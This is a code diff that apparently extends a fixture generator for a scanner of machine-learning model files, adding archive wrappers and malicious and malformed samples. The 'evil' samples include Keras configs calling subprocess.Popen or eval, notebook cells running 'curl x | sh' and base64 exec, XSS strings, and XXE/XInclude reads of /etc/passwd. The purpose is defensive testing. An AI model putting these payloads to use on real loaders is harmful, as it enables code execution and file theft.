@@ -10,6 +10,7 @@ import bz2
 import gzip
 import io
 import itertools
+import json
 import lzma
 import pathlib
 import random
@@ -167,7 +168,71 @@ def keras(config):
     return zipped(("metadata.json", b'{"keras_version": "3.5.0"}'), ("config.json", config), ("model.weights.h5", b""))
 
 
+SKIPPABLE = b"\x50\x2a\x4d\x18" + u32(4) + b"skip"  # a frame that readers of lz4 and zstd pass over
+
+
+def gzip_fields(data):
+    """A member with everything that its head may have."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    packed = packer.compress(data) + packer.flush()
+    return b"\x1f\x8b\x08\x1d" + u32(0) + b"\x00\xff" + b"\x03\x00abc" + b"name\0comment\0" + packed + u32(zlib.crc32(data)) + u32(len(data))
+
+
+def xz_filtered(data):
+    return lzma.compress(data, filters=[{"id": lzma.FILTER_DELTA, "dist": 1}, {"id": lzma.FILTER_LZMA2}])
+
+
+def lz4_stored(data):
+    """A frame of one block that is not compressed; the checksum of its head is left wrong on purpose only in the broken ones."""
+    head = b"\x60\x40"
+    return b"\x04\x22\x4d\x18" + head + bytes([xxh32(head) >> 8 & 255]) + u32(len(data) | 1 << 31) + data + u32(0)
+
+
+def xxh32(data):
+    """XXH32 of less than 16 bytes, seed 0."""
+    prime = (2654435761, 2246822519, 3266489917, 668265263, 374761393)
+    h, at = (prime[4] + len(data)) & 0xffffffff, 0
+    turn = lambda x, n: (x << n | x >> (32 - n)) & 0xffffffff
+    for at in range(0, len(data) - 3, 4):
+        h = turn((h + int.from_bytes(data[at:at + 4], "little") * prime[2]) & 0xffffffff, 17) * prime[3] & 0xffffffff
+    for byte in data[len(data) // 4 * 4:]:
+        h = turn((h + byte * prime[4]) & 0xffffffff, 11) * prime[0] & 0xffffffff
+    h = (h ^ h >> 15) * prime[1] & 0xffffffff
+    h = (h ^ h >> 13) * prime[2] & 0xffffffff
+    return h ^ h >> 16
+
+
+def tar_member(name, data, kind=tarfile.REGTYPE, form=tarfile.GNU_FORMAT):
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w", format=form) as archive:
+        info = tarfile.TarInfo(name)
+        info.type, info.size = kind, len(data)
+        archive.addfile(info, io.BytesIO(data))
+    return out.getvalue()
+
+
+def zip64(data):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive, archive.open("m.pkl", "w", force_zip64=True) as member:
+        member.write(data)
+    return out.getvalue()
+
+
+def without_directory(data):
+    whole = zipped(("m.pkl", data), ("n.pkl", data))
+    return whole[:whole.index(b"PK\1\2")]
+
+
 PACKED = {
+    "gzip_fields": (gzip_fields, "pkl.gz"), "gzip_zeros_behind": (lambda d: gzip.compress(d, mtime=0) + bytes(99), "pkl.gz"), "gzip_in_gzip": (lambda d: gzip.compress(gzip.compress(d, mtime=0), mtime=0), "pkl.gz"),
+    "xz_filtered": (xz_filtered, "pkl"), "xz_two": (lambda d: lzma.compress(d[:5]) + lzma.compress(d[5:]), "pkl.xz"), "xz_unchecked": (lambda d: lzma.compress(d, check=lzma.CHECK_NONE), "joblib"),
+    "bzip2_two": (lambda d: bz2.compress(d[:5]) + bz2.compress(d[5:]), "pkl.bz2"), "lz4": (lz4_stored, "joblib"), "lz4_behind_frame": (lambda d: SKIPPABLE + lz4_stored(d), "pkl.lz4"), "zlib_small_window": (lambda d: (lambda p: p.compress(d) + p.flush())(zlib.compressobj(9, 8, 9)), "joblib"),
+    "tar_type_of_nobody": (lambda d: tar_member("m.pkl", d, b"Z"), "pkl.tar"), "tar_long_name": (lambda d: tar_member("a" * 150 + ".pkl", d), "tar"), "tar_pax_name": (lambda d: tar_member("\u00e9" * 60 + ".pkl", d, form=tarfile.PAX_FORMAT), "tar"),
+    "tar_two": (lambda d: tar_member("a.txt", b"x") + tar_member("m.pkl", d), "tar"), "tar_behind": (lambda d: tar_member("a.txt", b"x") + d, "tar"), "frame_tar_gz": (lambda d: gzip.compress(tar_member("f.pkl.tar.gz", d), mtime=0), "pkl.tar.gz"),
+    "zip64": (zip64, "zip"), "zip_bzip2": (lambda d: zipped(("x/data.pkl", d), method=zipfile.ZIP_BZIP2), "pt"), "zip_lzma": (lambda d: zipped(("x/data.pkl", d), method=zipfile.ZIP_LZMA), "pt"), "zip_without_directory": (without_directory, "zip"),
+    "zip_headers_in_front": (lambda d: without_directory(d) + torch_zip(STATE), "pt"), "zip_behind_letter": (lambda d: b"From: a\nTo: b\n\n" + zipped(("m.pkl", d)), "zip"), "zip_folder_called_data": (lambda d: zipped(("data.pkl/", b""), ("data.pkl/x", d)), "pt"),
+    "keras_weights_npz": (lambda d: zipped(("metadata.json", b"{}"), ("config.json", b'{"class_name": "Sequential", "module": "keras", "config": {"layers": []}}'), ("model.weights.npz", zipped(("a.npy", d)))), "keras"),
+    "safetensors_hole": (lambda d: (lambda h: struct.pack("<Q", len(h)) + h + d.ljust(500, b"\0") + b"x")(b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[500,501]}}'), "safetensors"), "gzip_named_safetensors": (lambda d: gzip.compress(d, mtime=0), "safetensors"),
     "plain": (lambda d: d, "pkl"), "pickle": (lambda d: d, "pickle"), "joblib": (lambda d: d, "joblib"), "bin": (lambda d: d, "bin"), "pt": (lambda d: d, "pt"), "no_suffix": (lambda d: d, "model"),
     "named_safetensors": (lambda d: d, "safetensors"), "named_onnx": (lambda d: d, "onnx"), "named_npy": (lambda d: d, "npy"), "named_h5": (lambda d: d, "h5"), "named_gguf": (lambda d: d, "gguf"),
     "gzip": (lambda d: gzip.compress(d, mtime=0), "pkl.gz"), "zlib": (zlib.compress, "joblib"), "zlib_stored": (lambda d: zlib.compress(d, 0), "pkl"), "bzip2": (bz2.compress, "pkl"), "xz": (lzma.compress, "pkl"),
@@ -239,6 +304,30 @@ def formats():
     add("evil", "executable_named_model", b"\x7fELF" + bytes(60), "pt")
     add("evil", "llamafile", b"MZqFpD='\n" + bytes(64) + zipped(("model.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 0))), "gguf")
     add("evil", "safetensors_overlap", struct.pack("<Q", 120) + (b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"b":{"dtype":"U8","shape":[4],"data_offsets":[2,6]}}').ljust(120) + bytes(6), "safetensors")
+    layer = lambda **config: b'{"class_name": "Sequential", "module": "keras", "config": {"layers": [' + json.dumps(config).encode() + b"]}}"
+    code = {"class_name": "__lambda__", "config": {"code": "4wE="}}
+    for name, config in {
+        "nested_model": layer(module="keras.models", class_name="Functional", config={"layers": [{"class_name": "Lambda", "config": {"function": code}}]}),
+        "time_distributed": layer(class_name="TimeDistributed", module="keras.layers", config={"layer": {"class_name": "Lambda", "config": {"function": code}}}),
+        "optimizer": b'{"class_name": "Sequential", "module": "keras", "config": {"layers": []}, "compile_config": {"optimizer": {"module": "subprocess", "class_name": "Popen", "config": {"args": "id"}}}}',
+        "loss": b'{"class_name": "Sequential", "module": "keras", "config": {"layers": []}, "compile_config": {"loss": {"module": "builtins", "class_name": "function", "config": "eval"}}}',
+        "enable_unsafe": layer(class_name="Dense", module="keras.layers", config={"activation": {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"}}),
+        "vocabulary": layer(class_name="StringLookup", module="keras.layers", config={"vocabulary": "/etc/passwd"}), "weights_of_words": layer(class_name="TextVectorization", module="keras.layers", config={"vocabulary": ["a"], "idf_weights": "http://x/y"}),
+        "escaped": LAMBDA.replace(b"Lambda", b"\\u004cambda"), "other_text": ("\ufeff" + LAMBDA.decode()).encode("utf-16"), "not_a_number": b'{"class_name": "Lambda", "config": {"a": NaN}}'}.items():
+        add("evil", f"keras_{name}", keras(config), "keras")
+    for name, text in {"merged": "x: &a {loader_module: mine}\nflavors:\n  python_function:\n    <<: *a\n", "quoted": 'flavors:\n  python_function:\n    "loader_module": "m\\x69ne"\n', "twice": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    loader_module: mine\n",
+                       "code": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n"}.items():
+        add("evil", f"mlflow_{name}", text.encode(), "MLmodel")
+    for name, source in {"assigned": "x = !curl http://x/y", "magic": "%%script bash\ncurl x | sh", "shell_object": "get_ipython().system('curl x | sh')", "decoded": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "started": "import subprocess as s\ns.run(['curl', 'x'])"}.items():
+        add("evil", f"notebook_{name}", json.dumps({"cells": [{"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(), "ipynb")
+    for name, output in {"handler": {"text/html": "<img src=x onerror=alert(1)>"}, "drawing": {"image/svg+xml": "<svg onload=alert(1)><script>1</script></svg>"}, "frame": {"text/html": ["<iframe src='javascript:alert(1)'></iframe>"]}}.items():
+        add("evil", f"notebook_output_{name}", json.dumps({"cells": [{"cell_type": "code", "metadata": {}, "source": "x", "outputs": [{"output_type": "display_data", "metadata": {}, "data": output}], "execution_count": None}],
+                                                           "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(), "ipynb")
+    entity = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header>&x;</Header></PMML>'
+    add("evil", "pmml_other_text", entity.encode("utf-16"), "pmml")
+    add("evil", "pmml_inclusion", b'<PMML version="4.4" xmlns:xi="http://www.w3.org/2001/XInclude"><Header/><xi:include href="file:///etc/passwd"/></PMML>', "pmml")
+    add("evil", "tensorflow_text", b'node { name: "a" op: "\\120yFunc" }\nnode { name: "b" op: "NoOp" }\nversions { producer: 1000 }\n', "pbtxt")
+    add("evil", "program_beside_model", zipped(("m.pkl", P4 + b"N."), ("lib/x", b"\x7fELF" + bytes(60))), "zip")
     add("evil", "seven_zip_named_pt", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24), "pt")
     add("evil", "rar_named_pkl", b"Rar!\x1a\x07\x01\0" + bytes(20), "pkl")
 
@@ -265,6 +354,18 @@ def malformed():
     add("broken", "safetensors_length", struct.pack("<Q", 1 << 40) + b"{}", "safetensors")
     add("broken", "gguf_counts", b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60), "gguf")
     add("broken", "h5_header_only", b"\x89HDF\r\n\x1a\n" + bytes(20), "h5")
+    for name, data in {"list_as_key": P4 + b"}]Ns.", "set_of_dicts": P4 + b"\x8f(}\x90.", "no_utf8": P4 + b"\x8c\x02\xc3\x28.", "memo_negative": b"Np-1\n.", "memo_missing": P4 + b"h\x63.", "number": b"I12x\n.", "quote": b"S'abc\n.", "length_negative": P2 + b"T\xff\xff\xff\xff.",
+                       "length_huge": P4 + b"\x8e" + u64(1 << 62) + b".", "protocol": b"\x80\x09N.", "names_are_numbers": P4 + b"K\x01K\x02\x93.", "buffer": P5 + b"\x97.", "frame": P4 + b"\x95" + u64(99) + b"N."}.items():
+        add("broken", f"pickle_{name}", data, "pkl")
+    for name, header in {"shape_number": "{'descr': '<f8', 'fortran_order': False, 'shape': 3}", "order_number": "{'descr': '<f8', 'fortran_order': 0, 'shape': (3,)}", "negative": "{'descr': '<f8', 'fortran_order': False, 'shape': (-3,)}",
+                         "sum": "{'descr': '<f8', 'fortran_order': False, 'shape': (1+2,)}", "field_more": "{'descr': '<f8', 'fortran_order': False, 'shape': (3,), 'x': 1}", "no_shape": "{'descr': '<f8', 'fortran_order': False}", "type": "{'descr': '<q9', 'fortran_order': False, 'shape': (3,)}"}.items():
+        text = header.encode() + b"\n"
+        add("broken", f"npy_{name}", b"\x93NUMPY\x01\0" + struct.pack("<H", len(text)) + text + bytes(24), "npy")
+    for name, text in {"importances": "feature_importances:\na=", "parameters": "feature_importances:\na=1\n\nparameters:\n[boosting: gbdt]\n", "categories": 'feature_importances:\na=1\n\npandas_categorical:[["a", '}.items():
+        add("broken", f"lightgbm_{name}", ("tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=0\nobjective=regression\nfeature_names=a\nfeature_infos=[0:1]\ntree_sizes=\n\nend of trees\n\n" + text).encode(), "txt")
+    add("broken", "onnx_without_operators", b"\x08\x07\x12\x04test\x3a\x03\x12\x01g", "onnx")
+    add("broken", "onnx_without_graph", b"\x08\x07\x12\x04test\x42\x02\x10\x11", "onnx")
+    add("broken", "lz4_checksum", lz4_stored(P4 + b"N.").replace(b"\x60\x40", b"\x60\x70", 1), "joblib")
     add("broken", "zeros", bytes(1000), "pkl")
     add("broken", "deep_marks", P4 + b"(" * 1000, "pkl")
 
